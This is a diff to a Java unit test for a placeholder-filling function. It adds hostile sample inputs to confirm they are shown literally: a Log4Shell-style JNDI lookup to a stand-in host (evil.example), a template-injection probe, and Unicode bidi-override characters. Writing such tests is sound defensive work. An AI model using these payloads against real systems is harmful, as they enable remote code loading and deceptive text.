@@ -5,6 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.util.Map;
 import java.util.Optional;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class PlaceholdersTest {
 
@@ -17,6 +19,22 @@ class PlaceholdersTest {
     void neverReadsAValueAgain() {
         assertThat(fill("Hello {name}!", Map.of("name", "{nickname} $1 \\", "nickname", "Pao")))
                 .isEqualTo("Hello {nickname} $1 \\!");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{nickname|x}",
+                "{{7*7}}",
+                "${jndi:ldap://evil.example/a}",
+                "$1 \\1 \\",
+                "a\u202Ecba\u202C \u2066b\u2069"
+            })
+    void showsAValueCharacterByCharacterWhateverLanguageItIsWrittenIn(String value) {
+        assertThat(fill("Hello {name}, bye {name|friend}.", Map.of("name", value, "nickname", "Pao")))
+                .isEqualTo("Hello " + value + ", bye " + value + ".");
+        assertThat(fill("By {day}. Hello {name}, bye.", Map.of("name", value, "nickname", "Pao")))
+                .isEqualTo("Hello " + value + ", bye.");
     }
 
     @Test
